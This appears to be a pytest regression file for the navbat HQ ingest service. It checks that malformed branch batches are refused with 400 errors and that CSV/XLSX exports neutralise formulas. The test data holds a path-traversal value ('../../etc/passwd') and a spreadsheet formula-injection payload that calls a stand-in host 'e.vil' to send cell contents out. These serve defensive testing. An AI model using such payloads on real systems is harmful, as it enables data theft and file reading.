"""Issue 23: HQ's ingest refuses, never crashes. `navbat hq` as a process on PostgreSQL, a branch's
token, batches over a real socket: every bad field is a 400 naming its path, a bad time zone does
not break the branch's next batches, and an empty batch from `after=0` does not wipe its history
(only a batch from a restored branch may make HQ forget). Before (main at 2a08f75) each bad batch
here was a 500 (or, for the empty batch, a 200 that wiped the branch), at the assertion "before:".
"""

from __future__ import annotations

import copy
import datetime as dt
from typing import Any

import pytest
import requests
from hq_support import HQProcess, connect
from navbat.foundation.config import ConfigError, parse_config
from navbat.hq.accounts import add_branch
from navbat.hq.simulated import day_events, simulated_day
from navbat.server.hqlink.shipping import profile

DAY = dt.date(2026, 11, 21)


@pytest.fixture
def shipped(branch, hq_module_process: HQProcess):  # noqa: ANN001, ANN201, F811
    """A branch of this test's own with a day of events and ratings at the module's HQ; (post(body) ->
    response, a good next batch, HQ's database URL, the branch's id)."""
    global _branches
    _branches += 1
    branch_id = f"tehran-{_branches:02d}"
    with connect(hq_module_process.db_url) as conn:
        token = add_branch(conn, branch_id, "تهران", "مرکزی", "1")
    events, ratings = day_events(branch, DAY, simulated_day(branch, 40, 1), 1, 1, 1)
    for seq, r in enumerate(ratings, 1):
        r["seq"] = seq
    half = len(events) // 2
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {token}"

    def post(body: dict[str, Any]) -> requests.Response:
        return session.post(f"{hq_module_process.url}/api/v1/hq/ingest", json=body, timeout=30)

    first = {"after": 0, "ratings_after": 0, "last_id": events[-1]["id"], "events": events[:half],
             "ratings": ratings, "profile": profile(branch)}
    assert post(first).status_code == 200
    nxt = {"after": events[half - 1]["id"], "ratings_after": len(ratings), "last_id": events[-1]["id"],
           "events": events[half:], "ratings": [], "profile": profile(branch)}
    yield post, nxt, hq_module_process.db_url, branch_id
    session.close()


_branches = 0  # the branches made at the module's HQ so far: each test's is its own


def _event_count(url: str, branch_id: str) -> int:
    with connect(url) as conn:
        return conn.execute("SELECT count(*) AS n FROM events WHERE branch=%s", [branch_id]).fetchone()["n"]


def _bad(nxt: dict[str, Any], path: list[Any], value: Any) -> dict[str, Any]:
    body = copy.deepcopy(nxt)
    where = body
    for key in path[:-1]:
        where = where[key]
    where[path[-1]] = value
    return body


@pytest.mark.parametrize(("path", "value", "field"), [
    (["events", 0, "at"], "9999-12-31T23:59:00+00:00", "events[0].at"),
    (["events", 0, "at"], "0001-01-01T00:00:00+03:30", "events[0].at"),
    (["events", 0, "at"], "2026-11-21T09:00:00", "events[0].at"),  # no offset
    (["events", 0, "id"], 2**70, "events[0].id"),
    (["events", 1, "ticket_id"], 2**64, "events[1].ticket_id"),
    (["events", 1, "counter"], -1, "events[1].counter"),
    (["events", 1, "type"], "ticket.\u0000issued", "events[1].type"),
    (["events", 2, "data"], {"a": 1e300}, "events[2].data.a"),
    (["events", 2, "data"], {"x": [[[[[[[[[[1]]]]]]]]]]}, None),
    (["ratings"], [{"seq": 99, "ticket": 1, "score": 10**30, "at": "2026-11-21T09:00:00+00:00"}], "ratings[0].score"),
    (["ratings"], [{"seq": 99, "ticket": 1, "score": 4, "comment": {"x": 1}, "at": "2026-11-21T09:00:00+00:00"}],
     "ratings[0].comment"),
    (["profile", "timezone"], "Mars/Olympus", "profile.timezone"),
    (["profile", "timezone"], "../../etc/passwd", "profile.timezone"),
    (["profile", "services", 0, "target"], "soon", "profile.services[0].target"),
    (["last_id"], 2**70, "last_id"),
    (["restore"], "yes", "restore"),
])
def test_a_bad_field_is_a_400_naming_it(shipped, path: list, value: Any, field: str | None) -> None:  # noqa: ANN001
    post, nxt, url, branch_id = shipped
    before = _event_count(url, branch_id)
    r = post(_bad(nxt, path, value))
    assert r.status_code == 400, r.text  # before: 500
    assert r.json()["error"] == "bad_batch"
    if field is not None:
        assert r.json()["field"].startswith(field)
    assert _event_count(url, branch_id) == before  # nothing of it stored
    assert post(nxt).status_code == 200  # the branch's next good batch goes in (a bad zone broke them all)
    assert _event_count(url, branch_id) > before


def test_an_empty_batch_from_zero_does_not_wipe_the_branch(shipped) -> None:  # noqa: ANN001
    post, nxt, url, branch_id = shipped
    assert post(nxt).status_code == 200
    stored = _event_count(url, branch_id)
    r = post({"after": 0, "ratings_after": 0, "last_id": 0, "events": []})
    assert (r.status_code, r.json()["error"]) == (409, "restore_needed")  # before: 200, and 0 events left
    assert _event_count(url, branch_id) == stored
    # A restored branch says so (navbat restore marks its file, its shipper sends restore: true): then HQ
    # takes its log as it is.
    r = post({"after": 0, "ratings_after": 0, "last_id": 0, "events": [], "restore": True})
    assert r.status_code == 200 and r.json()["events_hwm"] == 0
    assert _event_count(url, branch_id) == 0


def test_a_bad_zone_stored_before_the_checks_breaks_nothing(shipped) -> None:  # noqa: ANN001
    post, nxt, url, branch_id = shipped
    with connect(url) as conn:  # as HQ kept it before batches were checked
        conn.execute("""UPDATE branches SET profile = jsonb_set(profile, '{timezone}', '"Mars/Olympus"')
                        WHERE id = %s""", [branch_id])
    r = post({k: v for k, v in nxt.items() if k != "profile"})
    assert r.status_code == 200, r.text  # before: 500, for this batch and every one after it


def test_time_zones_are_checked_at_the_branch_too(branch) -> None:  # noqa: ANN001
    raw = branch.model_dump(mode="json")
    raw["branch"]["timezone"] = "Mars/Olympus"
    with pytest.raises(ConfigError, match="timezone"):
        parse_config(raw)


# ---- spreadsheets: branch text never becomes a live formula ---------------------------------

LIVE = '=HYPERLINK("http://e.vil/?"&A1,"PR1")'


def test_branch_text_reaches_the_national_csv_and_xlsx_as_text(branch, hq_db: str,  # noqa: ANN001, F811
                                                               hq_process: HQProcess) -> None:  # noqa: F811
    import csv
    import io
    import json

    import jdatetime
    from navbat.hq.accounts import add_user
    from openpyxl import load_workbook

    with connect(hq_db) as conn:
        token = add_branch(conn, "@tehran-01", "تهران", "-مرکزی", "1")
        add_user(conn, "boss", "national", "9999")
    events, _ = day_events(branch, DAY, simulated_day(branch, 40, 1), 1, 1, 1)
    events = json.loads(json.dumps(events).replace('"PR1"', json.dumps(LIVE)))  # a sub-service code with a formula
    s = requests.Session()
    r = s.post(f"{hq_process.url}/api/v1/hq/ingest", headers={"Authorization": f"Bearer {token}"}, timeout=30,
               json={"after": 0, "last_id": events[-1]["id"], "events": events, "profile": profile(branch)})
    assert r.status_code == 200, r.text
    boss = {"Authorization": "Bearer " + s.post(f"{hq_process.url}/api/v1/hq/login", timeout=30, json={
        "username": "boss", "pin": "9999"}).json()["token"]}
    j = jdatetime.date.fromgregorian(date=DAY)
    month = f"{j.year}-{j.month:02d}"
    text = s.get(f"{hq_process.url}/api/v1/hq/report?month={month}&format=csv", headers=boss, timeout=30).text
    rows = list(csv.reader(io.StringIO(text)))
    assert ["تهران", "'-مرکزی", "'@tehran-01", "'" + LIVE] in [row[:4] for row in rows]  # before: LIVE as it was
    xlsx = s.get(f"{hq_process.url}/api/v1/hq/report?month={month}&format=xlsx", headers=boss, timeout=30).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]  # before: a formula cell
    assert "'" + LIVE in [c.value for c in cells]
    s.close()


def test_the_hubs_exports_neutralise_names(branch, tmp_path) -> None:  # noqa: ANN001
    import csv
    import io

    from conftest import make_app
    from navbat.server.reports import build_report, parse_month
    from navbat.server.reports.export import to_csv, to_xlsx
    from openpyxl import load_workbook

    raw = branch.model_dump(mode="json")
    raw["units"][0]["services"][0]["name"] = {"fa": "+1+1", "en": LIVE}
    raw["units"][0]["name"] = {"fa": "\tunit", "en": "@unit"}
    odd = parse_config(raw)
    hub = make_app(odd, tmp_path / "hub.sqlite").extensions["navbat.hub"]
    with hub.read() as db:
        report = build_report(db, odd, parse_month("1405-08"))
    hub.stop()
    rows = list(csv.reader(io.StringIO(to_csv(report, "en"))))
    labels = {row[1] for row in rows}
    assert "'" + LIVE in labels and LIVE not in labels  # before: LIVE
    assert "'+1+1" in {row[1] for row in csv.reader(io.StringIO(to_csv(report, "fa")))}
    book = load_workbook(io.BytesIO(to_xlsx(report, "en")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # before: formula cells in two sheets
    assert "'" + LIVE in [c.value for c in cells] and "'@unit" in [c.value for c in cells]  # the units sheet
